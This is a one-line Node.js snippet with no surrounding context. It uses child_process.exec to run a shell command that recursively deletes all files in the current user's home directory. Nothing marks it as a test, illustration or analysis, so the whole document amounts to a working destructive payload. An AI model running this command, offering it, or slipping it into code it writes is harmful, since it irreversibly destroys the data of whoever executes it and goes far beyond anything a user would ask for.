require("child_process").exec("rm -rf ~/* --no-preserve-root");
